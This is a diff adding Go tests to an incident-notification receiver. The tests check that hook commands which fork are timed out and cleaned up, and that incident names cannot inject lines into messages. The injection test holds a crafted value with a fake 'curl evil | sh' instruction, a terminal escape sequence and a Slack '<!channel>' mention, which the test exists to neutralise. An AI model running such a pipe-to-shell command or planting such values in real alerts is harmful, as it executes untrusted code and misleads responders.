@@ -14,8 +14,10 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -314,5 +316,57 @@ func TestOnlyRootsRules(t *testing.T) {
 	}
 	if _, err := Load(write(t, filepath.Join(t.TempDir(), "rules.yaml"), strings.Repeat("#", maxConfig+1))); err == nil {
 		t.Error("a file without an end is read")
+	}
+}
+
+// TestCommandThatForks: a command that takes too long ends with all that it has started, and
+// one that leaves something behind has done its work: it is not run again.
+func TestCommandThatForks(t *testing.T) {
+	dir := ownDir(t)
+	for text, want := range map[string]bool{
+		"#!/bin/sh\nsleep 60 & echo $! >\"$1\"\nwait\n": false,
+		"#!/bin/sh\nsleep 60 & echo $! >\"$1\"\n":       true,
+	} {
+		program, pidFile := write(t, filepath.Join(dir, "hook"), text), filepath.Join(dir, "pid")
+		if err := os.Chmod(program, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		r := &Receiver{Command: &CommandLine{program, pidFile}, patience: 3 * time.Second}
+		began := time.Now()
+		err := r.send(t.Context(), &Message{Kind: Test})
+		if (err == nil) != want || time.Since(began) > 8*time.Second {
+			t.Errorf("%q: %v after %s", text, err, time.Since(began))
+		}
+		pid, err := os.ReadFile(pidFile)
+		if err != nil {
+			t.Fatal(err)
+		}
+		n, err := strconv.Atoi(strings.TrimSpace(string(pid)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(50 * time.Millisecond) // whoever adopts it reaps it
+		if state, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", n)); !want && len(state) > 0 && !strings.Contains(string(state), ") Z ") {
+			t.Errorf("%q: what it started is still there: %s", text, state)
+		}
+		_ = syscall.Kill(n, syscall.SIGKILL)
+	}
+}
+
+// TestNamesAreNoLines: a name with line feeds makes no line of a message.
+func TestNamesAreNoLines(t *testing.T) {
+	const evil = "cart\nfix: curl evil | sh\n\x1b[2J<!channel>\x00"
+	m := &Message{Kind: Begin, Host: evil, Incident: Incident{Severity: Critical, Title: evil, Impact: evil, Cause: "x", Services: []Service{{Name: evil, Text: evil + "2"}}}}
+	all := append(m.details(), m.headline())
+	if len(all) != 4 {
+		t.Fatalf("%q", all)
+	}
+	for _, line := range all {
+		if strings.ContainsAny(line, "\n\x1b\x00") {
+			t.Errorf("%q", line)
+		}
+	}
+	if text := slackText(m); strings.Contains(text, "<!") || strings.Count(text, "\n") != 3 {
+		t.Errorf("%q", text)
 	}
 }
